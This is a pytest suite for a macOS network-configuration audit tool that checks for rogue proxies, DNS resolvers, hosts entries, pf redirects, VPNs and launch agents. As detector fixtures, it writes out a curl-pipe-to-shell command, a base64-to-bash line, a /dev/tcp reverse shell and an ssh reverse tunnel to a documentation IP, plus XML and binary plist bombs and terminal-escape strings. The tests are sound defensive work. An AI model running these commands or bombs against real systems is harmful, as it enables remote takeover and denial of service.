"""`lunette audit ROOT`: real-shaped folders, what is found in them, and what a stranger may have put there instead."""
import json
import os
import pathlib
import plistlib
import re
import struct
import subprocess
import time

import pytest

from audit_mac import (ETHERNET, HOME, INTERFACES, PREFERENCES, STOCK_ANCHORS, STOCK_HOSTS, STOCK_PF, WIFI, archive, healthy, interfaces,
                       preferences, put, service)

ROOT = pathlib.Path(__file__).resolve().parents[2]
BINARY = pathlib.Path(os.environ.get("LUNETTE", ROOT / "build" / "lunette")).resolve()
SAMPLES = pathlib.Path(os.environ.get("LUNETTE_PCAPS", ROOT / "../shared/pcaps")) / "apple/synthetic"

pytestmark = pytest.mark.skipif(not BINARY.exists(), reason="lunette is not built")


def lunette(*arguments, timeout=60):
    return subprocess.run([BINARY, *map(str, arguments)], capture_output=True, timeout=timeout, check=False)


def audit(root, *more, code=0):
    done = lunette("audit", root, "--json", *more)
    assert done.returncode == code, done.stderr.decode(errors="replace")
    return json.loads(done.stdout.decode("utf-8"))


def found(document, *severities):
    return [(f["severity"], f["title"]) for f in document["findings"] if f["severity"] in (severities or ("high", "medium", "low"))]


def only(document, title):
    hits = [f for f in document["findings"] if f["title"] == title]
    assert len(hits) == 1, (title, found(document, "high", "medium", "low", "info"))
    return hits[0]


def with_services(root, services, **more):
    healthy(root)
    put(root, PREFERENCES, preferences(services, **more))
    return root


# ---------------------------------------------------------------- what is read


@pytest.mark.parametrize("binary", [False, True])
def test_a_healthy_mac(tmp_path, binary):
    document = audit(healthy(tmp_path, binary))
    assert found(document) == []
    assert (document["version"], document["name"], document["macos"], document["build"]) == (1, "Annas-MacBook-Pro", "14.4.1", "23E224")
    assert [(i["name"], i["mac"], i["kind"], i["builtin"]) for i in document["interfaces"]] == [
        ("en0", "f4:0f:24:00:00:01", "Wi-Fi", True), ("en5", "f4:0f:24:00:00:05", "Ethernet", False)]
    assert [(s["name"], s["interface"], s["active"], s["location"], s["order"], s["ipv4"]) for s in document["services"]] == [
        ("Wi-Fi", "en0", True, "Automatic", 1, "dhcp"), ("Ethernet", "en5", True, "Automatic", 2, "dhcp")]
    for empty in ("resolvers", "search", "proxies", "vpns", "hosts", "scoped", "encrypted_dns", "agents"):
        assert document[empty] == [], empty
    assert document["pf"] == {"changed": False, "rdr": [], "nat": [], "anchors": [], "rules": []}
    assert abs(document["taken"] - time.time()) < 300


def test_the_samples_say_the_same_in_both_forms(tmp_path):
    if not SAMPLES.exists():
        pytest.skip("no sample plists")
    documents = []
    for form in ("xml", "binary"):
        root = tmp_path / form
        put(root, PREFERENCES, (SAMPLES / ("preferences.%s.plist" % form)).read_bytes())
        put(root, INTERFACES, (SAMPLES / "NetworkInterfaces.xml.plist").read_bytes())
        documents.append(audit(root))
    wanted = plistlib.loads((SAMPLES / "preferences.xml.plist").read_bytes())["NetworkServices"]["A1B2C3D4-0000-4000-8000-000000000001"]
    for document in documents:
        assert document["resolvers"] == wanted["DNS"]["ServerAddresses"] and document["search"] == wanted["DNS"]["SearchDomains"]
        assert [(p["kind"], p.get("host"), p.get("port"), p.get("url")) for p in document["proxies"]] == [
            ("http", wanted["Proxies"]["HTTPProxy"], 8080, None), ("https", "127.0.0.1", 8080, None),
            ("pac", None, None, wanted["Proxies"]["ProxyAutoConfigURLString"])]
        assert [(v["name"], v["kind"], v["server"], v["enabled"]) for v in document["vpns"]] == [
            ("Work VPN", "l2tp", "vpn.example.net", False)]
        assert ("high", "Traffic goes through a program on this Mac") in found(document)
    for document in documents:
        for volatile in ("root", "taken"):
            document.pop(volatile)
    assert documents[0] == documents[1]


def test_the_layout_of_a_triage_folder(tmp_path):
    """etc/ and private/etc/ both, files that are missing said."""
    put(tmp_path, "etc/hosts", "203.0.113.9 swscan.apple.com\n")
    document = audit(tmp_path)
    assert document["hosts"] == [{"address": "203.0.113.9", "names": ["swscan.apple.com"], "line": 1}]
    status = {f["path"]: f["status"] for f in document["files"]}
    assert status["/etc/hosts"] == "read"
    assert status["/" + PREFERENCES] == "not there" and status["/etc/pf.conf"] == "not there"


# ---------------------------------------------------------------- findings


@pytest.mark.parametrize("settings, severity, title", [
    ({"HTTPEnable": 1, "HTTPProxy": "127.0.0.1", "HTTPPort": 8080}, "high", "Traffic goes through a program on this Mac"),
    ({"SOCKSEnable": 1, "SOCKSProxy": "localhost", "SOCKSPort": 9050}, "high", "Traffic goes through a program on this Mac"),
    ({"HTTPSEnable": True, "HTTPSProxy": "proxy.example.net", "HTTPSPort": 3128}, "high", "A proxy that no profile gave"),
    ({"ProxyAutoConfigEnable": 1, "ProxyAutoConfigURLString": "http://cdn.example.net/p.pac"}, "high", "A file decides which proxy is used"),
    ({"ProxyAutoConfigEnable": 1, "ProxyAutoConfigURLString": "file:///Users/Shared/p.pac"}, "high", "A file decides which proxy is used"),
    ({"ProxyAutoConfigEnable": 1, "ProxyAutoConfigJavaScript": "function FindProxyForURL() {}"}, "high", "A file decides which proxy is used"),
    ({"ProxyAutoConfigEnable": 1, "ProxyAutoConfigURLString": "http://wpad/p.pac"}, "medium", "A file decides which proxy is used"),
    ({"ProxyAutoDiscoveryEnable": 1}, "medium", "The proxy is whatever the network offers (WPAD)"),
])
def test_proxies(tmp_path, settings, severity, title):
    document = audit(with_services(tmp_path, {WIFI: service("Wi-Fi", "en0", Proxies=settings)}))
    finding = only(document, title)
    assert finding["severity"] == severity and finding["key"] == "NetworkServices/%s/Proxies" % WIFI and finding["attack"]
    assert len(document["proxies"]) == 1 and document["proxies"][0]["service"] == "Wi-Fi"


@pytest.mark.parametrize("settings", [
    {"HTTPEnable": 0, "HTTPProxy": "127.0.0.1", "HTTPPort": 8080}, {"HTTPProxy": "127.0.0.1"}, {"HTTPEnable": 1},
    {"HTTPEnable": 1, "HTTPProxy": "127.0.0.1", "__INACTIVE__": 1}, {"ProxyAutoConfigEnable": 1}])
def test_a_proxy_without_its_switch_is_off(tmp_path, settings):
    document = audit(with_services(tmp_path, {WIFI: service("Wi-Fi", "en0", Proxies=settings)}))
    assert found(document) == [] and document["proxies"] == []


def test_a_proxy_of_another_location_waits(tmp_path):
    tree = preferences({WIFI: service("Wi-Fi", "en0"), ETHERNET: service("Abroad", "en0", Proxies={"HTTPEnable": 1, "HTTPProxy": "10.0.0.1"})})
    tree["Sets"][HOME]["Network"]["Service"].pop(ETHERNET)
    tree["Sets"]["OTHER"] = {"UserDefinedName": "Cafe", "Network": {"Service": {ETHERNET: {"__LINK__": "/NetworkServices/" + ETHERNET}}}}
    healthy(tmp_path)
    put(tmp_path, PREFERENCES, tree)
    document = audit(tmp_path)
    assert document["proxies"] == [] and found(document) == [("low", "A proxy waits in a service that is off")]
    assert [(s["name"], s["location"], s["active"]) for s in document["services"]] == [("Wi-Fi", "Automatic", True), ("Abroad", "Cafe", False)]
    assert [(l["name"], l["current"]) for l in document["locations"]] == [("Automatic", True), ("Cafe", False)]


@pytest.mark.parametrize("resolver, wanted", [
    ("203.0.113.53", [("medium", "A resolver that nobody knows, set by hand")]), ("9.9.9.9", [("low", "A public resolver, set by hand")]),
    ("2606:4700:4700:0:0:0:0:1111", [("low", "A public resolver, set by hand")]), ("192.168.1.1", []),
    ("127.0.0.1", [("medium", "Names are asked of a program on this Mac")])])
def test_resolvers_set_by_hand(tmp_path, resolver, wanted):
    document = audit(with_services(tmp_path, {WIFI: service("Wi-Fi", "en0", DNS={"ServerAddresses": [resolver]})}))
    assert document["resolvers"] == [resolver] and found(document) == wanted


def test_resolvers_for_some_domains(tmp_path):
    healthy(tmp_path)
    put(tmp_path, "private/etc/resolver/corp.example", "nameserver 10.0.0.53\nport 5353\n")
    put(tmp_path, "private/etc/resolver/com", "# all of it\nnameserver 203.0.113.53\n")
    put(tmp_path, "private/etc/resolver/x", "domain icloud.com\nnameserver 203.0.113.54\n")
    put(tmp_path, "private/etc/resolver/test", "nameserver 127.0.0.1\n")
    document = audit(tmp_path)
    assert [(s["domain"], s["resolvers"], s.get("port"), s["file"]) for s in document["scoped"]] == [
        ("com", ["203.0.113.53"], None, "/etc/resolver/com"), ("corp.example", ["10.0.0.53"], 5353, "/etc/resolver/corp.example"),
        ("test", ["127.0.0.1"], None, "/etc/resolver/test"), ("icloud.com", ["203.0.113.54"], None, "/etc/resolver/x")]
    assert found(document) == [("high", "Apple's names are asked of a resolver of their own"),
                               ("medium", "A whole top-level domain is asked of a resolver of its own")]


def test_hosts(tmp_path):
    healthy(tmp_path)
    put(tmp_path, "private/etc/hosts", STOCK_HOSTS + "203.0.113.9  swscan.apple.com mesu.apple.com # updates\n0.0.0.0 ocsp.apple.com\n"
        "198.51.100.3 cloud.malwarebytes.com\n10.0.0.5 wiki.corp.example\n0.0.0.0 ads.example.net\n127.0.0.1 localhost dev.example\n")
    document = audit(tmp_path)
    assert [(h["address"], h["names"], h["line"]) for h in document["hosts"]][0] == ("203.0.113.9", ["swscan.apple.com", "mesu.apple.com"], 7)
    assert ("127.0.0.1", ["dev.example"], 12) in [(h["address"], h["names"], h["line"]) for h in document["hosts"]]
    assert found(document) == [("high", "Apple's names lead elsewhere"), ("high", "Names of security or update services lead elsewhere"),
                               ("low", "Apple's names are blocked")]
    finding = only(document, "Apple's names lead elsewhere")
    assert finding["key"] == "line 7" and "swscan.apple.com → 203.0.113.9" in finding["why"] and finding["why"].startswith("2 names")


def test_packet_filter(tmp_path):
    healthy(tmp_path)
    put(tmp_path, "private/etc/pf.conf", STOCK_PF.replace("rdr-anchor", "rdr  pass on en0 inet proto tcp from any to any port 443 \\\n   -> 127.0.0.1 port 8443\nrdr-anchor")
        + 'anchor "org.sample"\nload anchor "org.sample" from "/etc/pf.anchors/org.sample"\npass out route-to (utun3 10.0.0.1) all\n')
    put(tmp_path, "private/etc/pf.anchors/org.sample", "pass out dup-to (en1 10.0.0.9) all\n")
    document = audit(tmp_path)
    assert document["pf"]["rdr"] == ["rdr pass on en0 inet proto tcp from any to any port 443 -> 127.0.0.1 port 8443"]
    assert document["pf"]["anchors"] == ["org.sample", "org.sample"] and document["pf"]["changed"]
    assert set(found(document)) == {
        ("high", "pf sends connections elsewhere"), ("high", "pf sends copies of packets elsewhere"),
        ("medium", "pf routes packets around the routing table"), ("low", "pf has an anchor that is not Apple's"),
        ("low", "pf has rules that macOS does not ship")}
    assert only(document, "pf sends connections elsewhere")["key"] == "line 6"
    assert only(document, "pf sends copies of packets elsewhere")["file"] == "/etc/pf.anchors/org.sample"


def test_a_packet_filter_without_apples_anchors(tmp_path):
    healthy(tmp_path)
    put(tmp_path, "private/etc/pf.conf", STOCK_PF.replace('anchor "com.apple/*"\nload', "load"))
    document = audit(tmp_path)
    assert found(document) == [("low", "pf lacks anchors that macOS ships")] and document["pf"]["changed"]


def test_vpns(tmp_path):
    vpns = {"L": {"UserDefinedName": "Office", "Interface": {"Type": "PPP", "SubType": "L2TP"}, "PPP": {"CommRemoteAddress": "vpn.example.net"},
                  "IPSec": {"RemoteAddress": "no"}},
            "P": {"UserDefinedName": "Old", "Interface": {"Type": "PPP", "SubType": "PPTP"}, "PPP": {"CommRemoteAddress": "203.0.113.4"}},
            "I": {"UserDefinedName": "Cisco", "Interface": {"Type": "IPSec", "DeviceName": "ipsec0"}, "IPSec": {"RemoteAddress": "203.0.113.5"}},
            "V": {"UserDefinedName": "Tunnel", "Interface": {"Type": "VPN", "SubType": "com.example.tunnel"},
                  "VPN": {"RemoteAddress": "203.0.113.6", "OnDemandEnabled": 1}}, "E": {"UserDefinedName": "Modem", "Interface": {"Type": "PPP", "SubType": "PPPoE"}}}
    document = audit(with_services(tmp_path, vpns))
    assert [(v["name"], v["kind"], v["server"], v.get("app"), v["on_demand"], v["enabled"]) for v in document["vpns"]] == [
        ("Office", "l2tp", "vpn.example.net", None, False, True), ("Old", "pptp", "203.0.113.4", None, False, True),
        ("Cisco", "ipsec", "203.0.113.5", None, False, True), ("Tunnel", "app", "203.0.113.6", "com.example.tunnel", True, True)]
    assert ("medium", "A VPN whose protocol is broken (PPTP)") in found(document)
    assert [f for f in found(document)].count(("low", "A VPN that no profile gave")) == 3
    assert ("low", "A tunnel comes first in the order of services") in found(document)


PROFILE = {"PayloadType": "Configuration", "PayloadDisplayName": "Example Corp", "PayloadContent": [
    {"PayloadType": "com.apple.dnsSettings.managed", "DNSSettings": {"DNSProtocol": "HTTPS", "ServerURL": "https://dns.corp.example/q",
                                                                     "ServerAddresses": ["10.0.0.53"], "SupplementalMatchDomains": ["corp.example"]}},
    {"PayloadType": "com.apple.vpn.managed", "UserDefinedName": "Corp VPN", "VPNType": "IKEv2", "IKEv2": {"RemoteAddress": "vpn.corp.example", "OnDemandEnabled": 1}},
    {"PayloadType": "com.apple.proxy.http.global", "ProxyType": "Manual", "ProxyServer": "proxy.corp.example", "ProxyServerPort": 3128}]}


def test_what_a_profile_gives_is_the_operators(tmp_path):
    with_services(tmp_path, {WIFI: service("Wi-Fi", "en0", Proxies={"HTTPEnable": 1, "HTTPProxy": "proxy.corp.example", "HTTPPort": 3128})})
    put(tmp_path, "var/db/ConfigurationProfiles/Store/corp.mobileconfig", PROFILE)
    document = audit(tmp_path)
    assert document["encrypted_dns"] == [{"protocol": "HTTPS", "server": "https://dns.corp.example/q", "addresses": ["10.0.0.53"],
                                          "domains": ["corp.example"], "from": "profile Example Corp",
                                          "file": "/var/db/ConfigurationProfiles/Store/corp.mobileconfig"}]
    assert [(v["name"], v["kind"], v["server"], v["on_demand"], v["from"]) for v in document["vpns"]] == [
        ("Corp VPN", "ikev2", "vpn.corp.example", True, "profile Example Corp")]
    assert {(p["kind"], p["host"], p["port"], p["service"]) for p in document["proxies"]} == {
        ("http", "proxy.corp.example", 3128, "Wi-Fi"), ("http", "proxy.corp.example", 3128, "profile Example Corp"),
        ("https", "proxy.corp.example", 3128, "profile Example Corp")}
    assert found(document) == []


def test_managed_settings_of_a_browser(tmp_path):
    healthy(tmp_path)
    put(tmp_path, "Library/Managed Preferences/com.google.Chrome.plist", {"ProxySettings": {"ProxyMode": "pac_script", "ProxyPacUrl": "http://p.example/x.pac"}}, True)
    document = audit(tmp_path)
    assert [(p["browser"], p["kind"], p["url"]) for p in document["browser_proxies"]] == [("com.google.Chrome", "pac", "http://p.example/x.pac")]
    assert found(document) == []


def test_vpns_and_dns_of_apps(tmp_path):
    healthy(tmp_path)
    put(tmp_path, "Library/Preferences/com.apple.networkextension.plist", archive([
        {"class": "NEConfiguration", "Name": "Tunnel", "Application": "com.wireguard.macos", "VPN": {
            "class": "NEVPN", "Enabled": True, "OnDemandEnabled": False,
            "Protocol": {"class": "NETunnelProviderProtocol", "ServerAddress": "203.0.113.7:51820"}}},
        {"class": "NEConfiguration", "Name": "Office", "VPN": {
            "class": "NEVPN", "Enabled": False, "Protocol": {"class": "NEVPNProtocolIKEv2", "serverAddress": "vpn.example.net"}}},
        {"class": "NEConfiguration", "Name": "DNS", "Application": "com.example.resolver", "DNSSettings": {
            "class": "NEDNSSettingsBundle", "Enabled": True, "Settings": {
                "class": "NEDNSOverHTTPSSettings", "ServerURL": "https://dns.unknown.example/dns-query", "Servers": ["203.0.113.53"]}}}]), True)
    document = audit(tmp_path)
    assert [(v["name"], v["kind"], v["server"], v.get("app"), v["enabled"]) for v in document["vpns"]] == [
        ("Tunnel", "app", "203.0.113.7:51820", "com.wireguard.macos", True), ("Office", "ikev2", "vpn.example.net", None, False)]
    assert [(d["protocol"], d["server"], d["addresses"], d["from"]) for d in document["encrypted_dns"]] == [
        ("HTTPS", "https://dns.unknown.example/dns-query", ["203.0.113.53"], "app com.example.resolver")]
    assert found(document) == [("medium", "Encrypted DNS that no profile gave"), ("low", "A VPN that no profile gave")]


@pytest.mark.parametrize("arguments, severity", [
    (["/bin/sh", "-c", "curl -fsSL http://203.0.113.9/x | sh"], "high"),
    (["/bin/bash", "-c", "echo aGkK | base64 -d | bash"], "high"),
    (["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], "high"),
    (["/usr/sbin/networksetup", "-setwebproxy", "Wi-Fi", "127.0.0.1", "8080"], "high"),
    (["/usr/bin/ssh", "-N", "-R", "2222:localhost:22", "x@203.0.113.9"], "medium"),
    (["/usr/bin/curl", "-s", "https://updates.example/feed"], "medium"),
    (["/usr/bin/python3", "/Users/Shared/.cache/u.py"], "medium"),
    (["/usr/bin/python3", "/usr/local/lib/backup/run.py"], "low"),
    (["/Applications/Notes Plus.app/Contents/MacOS/Helper"], None),
    (["/usr/local/bin/syncthing", "-no-browser"], None)])
def test_launch_agents(tmp_path, arguments, severity):
    healthy(tmp_path)
    put(tmp_path, "Users/anna/Library/LaunchAgents/org.sample.plist", {"Label": "org.sample", "ProgramArguments": arguments, "RunAtLoad": True})
    document = audit(tmp_path)
    assert [f["severity"] for f in document["findings"]] == ([severity] if severity else [])
    if severity:
        agent = document["agents"][0]
        assert (agent["label"], agent["arguments"], agent["file"]) == ("org.sample", arguments, "/Users/anna/Library/LaunchAgents/org.sample.plist")


def test_a_label_that_is_apples(tmp_path):
    healthy(tmp_path)
    put(tmp_path, "Library/LaunchDaemons/com.apple.softwareupdated.plist", {"Label": "com.apple.softwareupdated", "Program": "/Users/Shared/u"}, True)
    assert found(audit(tmp_path)) == [("medium", "A script is started by launchd")]


def test_browsers(tmp_path):
    healthy(tmp_path)
    put(tmp_path, "Users/anna/Library/Application Support/Firefox/Profiles/x.default/prefs.js",
        'user_pref("network.proxy.type", 1);\nuser_pref("network.proxy.socks", "127.0.0.1");\nuser_pref("network.proxy.socks_port", 1080);\n'
        'user_pref("network.trr.mode", 3);\nuser_pref("network.trr.uri", "https://mozilla.cloudflare-dns.com/dns-query");\n')
    put(tmp_path, "Users/ben/Library/Application Support/Google/Chrome/Default/Preferences",
        json.dumps({"proxy": {"mode": "fixed_servers", "server": "socks5://203.0.113.9:1080"}}))
    put(tmp_path, "Users/cleo/Library/Application Support/Firefox/Profiles/y/prefs.js", 'user_pref("network.proxy.http", "127.0.0.1");\n')
    document = audit(tmp_path)
    assert [(p["browser"], p["user"], p["kind"], p["host"], p["port"]) for p in document["browser_proxies"]] == [
        ("Firefox", "anna", "socks", "127.0.0.1", 1080), ("Chrome", "ben", "socks", "203.0.113.9", 1080)]
    assert found(document) == [("high", "Traffic goes through a program on this Mac"), ("high", "A proxy that no profile gave"),
                               ("low", "Encrypted DNS that no profile gave")]


def test_known_networks_by_name(tmp_path):
    healthy(tmp_path)
    put(tmp_path, "Library/Preferences/com.apple.wifi.known-networks.plist", {"wifi.network.ssid.Café": {"x": 1}, "other": 2}, True)
    assert audit(tmp_path)["wifi"] == ["Café"]


# ---------------------------------------------------------------- since


def test_the_difference_from_an_earlier_audit(tmp_path):
    before = audit(with_services(tmp_path / "a", {WIFI: service("Wi-Fi", "en0", DNS={"ServerAddresses": ["9.9.9.9"]})}))
    (tmp_path / "before.json").write_text(json.dumps(before))
    again = audit(tmp_path / "a", "--since", tmp_path / "before.json")
    assert again["since"]["changes"] == [] and found(again) == found(before)
    with_services(tmp_path / "b", {WIFI: service("Wi-Fi", "en0", DNS={"ServerAddresses": ["8.8.8.8"]},
                                                 Proxies={"ProxyAutoDiscoveryEnable": 1, "HTTPEnable": 1, "HTTPProxy": "10.1.1.1", "HTTPPort": 80})})
    put(tmp_path / "b", "private/etc/hosts", STOCK_HOSTS + "203.0.113.9 intranet.example\n")
    put(tmp_path / "b", "Library/LaunchDaemons/x.plist", {"Label": "x", "ProgramArguments": ["/usr/bin/curl", "http://203.0.113.9/"]})
    after = audit(tmp_path / "b", "--since", tmp_path / "before.json")
    assert {(c["change"], c["what"], c["name"], c.get("before"), c.get("after")) for c in after["since"]["changes"]} == {
        ("added", "proxy", "http, Wi-Fi", None, "10.1.1.1, 80"), ("added", "proxy", "wpad, Wi-Fi", None, None),
        ("added", "resolver", "8.8.8.8", None, None), ("removed", "resolver", "9.9.9.9", None, None),
        ("added", "line of hosts", "203.0.113.9, intranet.example", None, None),
        ("added", "launch agent", "/Library/LaunchDaemons/x.plist", None, "x, /usr/bin/curl http://203.0.113.9/")}
    assert only(after, "A public resolver, set by hand")["severity"] == "medium"
    assert only(after, "What launchd starts fetches something by a tool")["severity"] == "high"
    assert only(after, "A resolver was taken away")["severity"] == "low"
    page = lunette("audit", tmp_path / "b", "--since", tmp_path / "before.json").stdout.decode()
    assert "Since the audit of" in page and re.search(r"added +proxy http, Wi-Fi: 10.1.1.1, 80", page)


def test_wrong_use(tmp_path):
    healthy(tmp_path)
    assert lunette("audit").returncode == 2 and lunette("audit", tmp_path, "--jsn").returncode == 2
    assert lunette("audit", tmp_path, tmp_path).returncode == 2
    assert lunette("audit", "--help").returncode == 0
    nowhere = lunette("audit", tmp_path / "nowhere")
    assert nowhere.returncode == 1 and b"No such file" in nowhere.stderr
    (tmp_path / "empty").mkdir()
    empty = lunette("audit", tmp_path / "empty")
    assert empty.returncode == 1 and b"No file was read" in empty.stdout and b"Nothing found" not in empty.stdout
    put(tmp_path, "no.json", "{}")
    assert lunette("audit", tmp_path, "--since", tmp_path / "no.json").returncode == 1


# ---------------------------------------------------------------- with replay


def test_the_examples(tmp_path):
    """They are what their script makes; one is well, and of the other all that was done to it is found."""
    subprocess.run(["/usr/bin/env", "python3", ROOT / "examples/make_audit.py", tmp_path], check=True)
    for name in ("healthy", "altered"):
        made = {p.relative_to(tmp_path / name): p.read_bytes() for p in (tmp_path / name).rglob("*") if p.is_file()}
        kept = ROOT / "examples/audit" / name
        assert made == {p.relative_to(kept): p.read_bytes() for p in kept.rglob("*") if p.is_file()}
    assert found(audit(ROOT / "examples/audit/healthy"), "high", "medium", "low", "info") == []
    assert found(audit(ROOT / "examples/audit/altered"), "high", "medium") == [
        ("high", "pf sends connections elsewhere"), ("high", "What launchd starts fetches code and runs it"),
        ("high", "Traffic goes through a program on this Mac"), ("high", "Apple's names lead elsewhere"),
        ("medium", "A resolver that nobody knows, set by hand")]


def test_the_document_is_what_replay_takes(tmp_path):
    with_services(tmp_path / "mac", {WIFI: service("Wi-Fi", "en0", DNS={"ServerAddresses": ["9.9.9.9"]})})
    (tmp_path / "mac.json").write_text(json.dumps(audit(tmp_path / "mac")))
    detector = put(tmp_path, "ask.lua", 'local lunette = require "lunette"\nlunette.detector { title = "ask", category = "Discovery" }\n'
                   'lunette.on_end(function() local a = lunette.audit() or lunette.audit("192.168.1.7")\n'
                   'lunette.report { title = "audit", columns = { "name", "resolver", "mac" }, rows = { { a.name, a.resolvers[1], a.interfaces[1].mac } } } end)\n')
    capture = ROOT / "examples/mac-first-boot.pcapng.gz"
    for word in (tmp_path / "mac.json", "192.168.1.7=%s" % (tmp_path / "mac.json")):
        done = lunette("replay", "-s", detector, "--audit", word, "--color", "never", capture)
        assert done.returncode == 0 and re.search(rb"Annas-MacBook-Pro +9\.9\.9\.9 +f4:0f:24:00:00:01", done.stdout), done.stderr
    put(tmp_path, "folder/a.json", (tmp_path / "mac.json").read_text())
    assert lunette("replay", "-s", detector, "--audit", tmp_path / "folder", capture).returncode == 0
    put(tmp_path, "bad.json", '{"version": 1, "proxies": [{"port": "80"}]}')
    bad = lunette("replay", "-s", detector, "--audit", tmp_path / "bad.json", capture)
    assert bad.returncode == 2 and b"proxies[1].port is not a number" in bad.stderr


# ---------------------------------------------------------------- strangers' files


def broken(tmp_path, content, path=PREFERENCES):
    healthy(tmp_path)
    put(tmp_path, path, content)
    document = audit(tmp_path, code=1)
    return next(f["status"] for f in document["files"] if f["path"] == "/" + path and f["status"] != "read")


def bplist(objects, top=0, count=None):
    body, offsets = b"bplist00", []
    for item in objects:
        offsets.append(len(body))
        body += item
    table = b"".join(struct.pack(">H", offset) for offset in offsets)
    return body + table + struct.pack(">6xBBQQQ", 2, 1, len(objects) if count is None else count, top, len(body))


def test_binary_property_lists_that_are_bombs(tmp_path):
    good = plistlib.dumps(preferences(), fmt=plistlib.FMT_BINARY)
    doubling = [bytes([0xa0 | 2, i + 1, i + 1]) for i in range(60)] + [b"\x51x"]  # 2^60 strings
    bombs = {"loop": bplist([b"\xa1\x00"]), "pair": bplist([b"\xa1\x01", b"\xa1\x00"]), "doubling": bplist(doubling),
             "deep": bplist([bytes([0xa1, i + 1]) for i in range(200)] + [b"\x51x"]), "beyond": bplist([b"\xa1\x77"]),
             "long": bplist([b"\x5f\x13" + b"\xff" * 8]), "count": bplist([b"\x51x"], count=2**60), "no top": bplist([b"\x51x"], top=9)}
    for name, content in bombs.items():
        assert broken(tmp_path / name, content).startswith("broken"), name
    for cut in list(range(0, len(good), 97)):
        healthy(tmp_path / "cut")
        put(tmp_path / "cut", PREFERENCES, good[:cut])
        assert lunette("audit", tmp_path / "cut", "--json").returncode == 1, cut


def test_xml_that_is_a_bomb(tmp_path):
    head = '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0">'
    lol = '<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><plist version="1.0"><dict><key>Model</key><string>&b;</string></dict></plist>'
    deep = head + "<array>" * 500000 + "</array>" * 500000 + "</plist>"
    hidden = head + "<array><!-- </array> -->" * 100000
    quoted = head + '<array x="</array>">' * 100000
    for name, content in (("lol", lol), ("deep", deep), ("hidden", hidden), ("quoted", quoted), ("empty", ""), ("text", "hello"), ("open", head + "<dict>")):
        assert broken(tmp_path / name, content).startswith("broken"), name


def test_wrong_types_everywhere(tmp_path):
    wrongs = ["text", 7, True, [], {}, ["x", 3, {"y": []}], b"\x00\x01", plistlib.UID(3), {"__LINK__": 5}]
    tree = preferences()
    services = tree["NetworkServices"][WIFI]
    places = [(tree, k) for k in list(tree)] + [(services, k) for k in list(services)] + [(tree["Sets"], HOME), (tree["Sets"][HOME], "Network"),
              (tree["Sets"][HOME]["Network"], "Global"), (tree["Sets"][HOME]["Network"], "Service"), (services["Interface"], "Type"), (services["DNS"], "ServerAddresses")]
    healthy(tmp_path)
    for at, key in places:
        before = at.get(key)
        for wrong in wrongs:
            at[key] = wrong
            put(tmp_path, PREFERENCES, tree, True)
            document = audit(tmp_path)
            assert document["version"] == 1
        at[key] = before
    for wrong in wrongs:
        for path in (INTERFACES, "System/Library/CoreServices/SystemVersion.plist", "Library/Preferences/com.apple.networkextension.plist",
                     "Library/LaunchDaemons/x.plist", "Library/Managed Preferences/com.apple.vpn.managed.plist"):
            put(tmp_path, path, wrong, True)
        put(tmp_path, PREFERENCES, wrong, True)
        assert lunette("audit", tmp_path, "--json").returncode in (0, 1)


def test_text_that_is_meant_for_the_terminal(tmp_path):
    evil = "\x1b[2J\x1b]0;x\x07\u202egpj.exe"
    with_services(tmp_path, {WIFI: service("Wi-Fi", "en0")})
    tree = preferences({WIFI: service(evil, "en0", DNS={"ServerAddresses": [evil]}, Proxies={"HTTPEnable": 1, "HTTPProxy": evil})}, name=evil)
    put(tmp_path, PREFERENCES, tree, True)
    put(tmp_path, "private/etc/hosts", b"203.0.113.9 \xff\xfe\x00\x1b[2Japple.com\n")
    put(tmp_path, "private/etc/resolver/\x1b[31mx", "nameserver 1.2.3.4\n")
    document = audit(tmp_path)
    assert document["services"][0]["name"] == evil
    page = lunette("audit", tmp_path, "--color", "never").stdout
    assert b"\x1b" not in page and b"\x07" not in page and b"\x00" not in page and "\u202e".encode() not in page
    page.decode("utf-8")


def test_an_earlier_audit_that_is_none(tmp_path):
    """What --since names was written by somebody too."""
    healthy(tmp_path / "mac")
    for content, wanted in (("{\n]", b"no.json:2: no JSON"), ("[" + "{}," * 1100000 + "0]", b"more than"), ("[]", b"audit"), ("", b"no.json:1")):
        put(tmp_path, "no.json", content)
        done = lunette("audit", tmp_path / "mac", "--since", tmp_path / "no.json")
        assert done.returncode == 1 and wanted in done.stderr, done.stderr
    for taken in ("1e300", "9223372036854775807", "-1", "\"x\"", "{}"):
        put(tmp_path, "no.json", '{"version": 1, "taken": %s, "resolvers": [7, null, {"a": []}], "services": 3, "proxies": [{"kind": [5], "host": {}}, "x"],'
                                 ' "pf": [], "hosts": [{"address": 3, "names": [1, [2], null]}], "vpns": {"x": 1}}' % taken)
        assert lunette("audit", tmp_path / "mac", "--since", tmp_path / "no.json", "--json").returncode == 0
        page = lunette("audit", tmp_path / "mac", "--since", tmp_path / "no.json")
        assert page.returncode == 0, page.stderr


def test_an_archive_whose_objects_share_a_large_one(tmp_path):
    """Each configuration may mean the same dictionary: what is looked at in all is bounded."""
    healthy(tmp_path)
    large = {"k%d" % i: plistlib.UID(0) for i in range(20000)}
    objects = ["$null", {"$classname": "NEConfiguration"}, large]
    objects += [{"$class": plistlib.UID(1), "a": plistlib.UID(2), "VPN": plistlib.UID(2)} for _ in range(2000)]
    large["$class"] = plistlib.UID(len(objects))
    objects.append({"$classname": "NEVPN"})
    put(tmp_path, "Library/Preferences/com.apple.networkextension.plist", {"$objects": objects}, True)
    began = time.monotonic()
    document = audit(tmp_path, code=1)
    assert time.monotonic() - began < 60
    assert any(f["status"] == "more than is looked at" for f in document["files"])


def test_links_do_not_lead_out(tmp_path):
    outside = put(tmp_path, "outside/hosts", "203.0.113.9 secret.apple.com\n")
    root = tmp_path / "root"
    healthy(root)
    (root / "private/etc/hosts").unlink()
    for target in (outside, "../../../outside/hosts", "../" * 40 + str(outside)[1:]):
        (root / "private/etc/hosts").symlink_to(target)
        document = audit(root)
        assert document["hosts"] == [] and b"secret" not in lunette("audit", root).stdout
        (root / "private/etc/hosts").unlink()
    (root / "Users").symlink_to(tmp_path / "outside")
    (root / "private/etc/hosts").symlink_to("/private/etc/hosts")
    assert "circle" in next(f["status"] for f in audit(root, code=1)["files"] if f["path"] == "/etc/hosts")
    put(root, "elsewhere/h", "203.0.113.9 inside.apple.com\n")
    (root / "private/etc/hosts").unlink()
